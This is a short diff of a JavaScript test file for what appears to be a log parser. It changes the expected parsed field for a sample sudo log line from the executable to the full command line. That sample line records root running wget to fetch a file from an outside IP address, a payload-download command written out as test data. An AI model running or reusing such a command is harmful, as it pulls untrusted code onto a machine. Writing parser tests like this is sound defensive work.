@@ -28,7 +28,7 @@ describe('alerts that are told in running text', () => {
     [
       'a line of sudo',
       'Nov 26 03:41:20 web03 sudo: backup : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/wget -q http://203.0.113.66/m',
-      { 'user.name': 'backup', 'process.executable': '/usr/bin/wget' },
+      { 'user.name': 'backup', 'process.command_line': '/usr/bin/wget -q http://203.0.113.66/m' },
     ],
     [
       'keys and values of a firewall',
